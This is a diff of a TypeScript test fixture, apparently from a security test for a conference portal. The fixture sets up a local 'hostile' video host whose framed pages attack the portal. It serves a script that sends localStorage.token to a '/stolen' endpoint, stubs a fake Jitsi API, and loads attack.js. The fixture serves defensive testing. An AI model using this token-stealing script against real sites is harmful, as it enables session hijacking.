@@ -3,12 +3,19 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 
-type Report = { readonly attempts: Readonly<Record<string, string>>; readonly address: string; readonly referrer: string }
+type Report = {
+  readonly attempts: Readonly<Record<string, string>>
+  readonly address: string
+  readonly referrer: string
+}
 
 /** What a page in a frame does that wants what is the portal's. */
 export const attackScript = () => readFileSync(join(import.meta.dirname, 'attack.js'), 'utf8')
 
-/** A video host whose pages attack the portal that shows them, and whose script would take the session. It keeps everything that reaches it. */
+/**
+ * A video host whose pages attack the portal that shows them, and whose script would take the session. It
+ * keeps everything that reaches it.
+ */
 export async function startHostileHost() {
   const reports: Report[] = []
   /** Every request as it came: address, headers and body. */
@@ -24,11 +31,15 @@ export async function startHostileHost() {
         return response
           .writeHead(200, { 'content-type': 'text/javascript' })
           .end(`new Image().src = '/stolen?' + localStorage.token; window.JitsiMeetExternalAPI = class {}`)
-      if (request.url === '/attack.js') return response.writeHead(200, { 'content-type': 'text/javascript' }).end(attackScript())
+      if (request.url === '/attack.js')
+        return response.writeHead(200, { 'content-type': 'text/javascript' }).end(attackScript())
       response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
       // What it opens or leads somewhere is only to be seen.
-      if (request.url === '/popup' || request.url === '/stolen') return response.end('<!doctype html><title>Elsewhere</title>')
-      return response.end('<!doctype html><title>Conference</title><body><h1>Conference</h1><script type="module" src="/attack.js"></script></body>')
+      if (request.url === '/popup' || request.url === '/stolen')
+        return response.end('<!doctype html><title>Elsewhere</title>')
+      return response.end(
+        '<!doctype html><title>Conference</title><body><h1>Conference</h1><script type="module" src="/attack.js"></script></body>',
+      )
     })
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
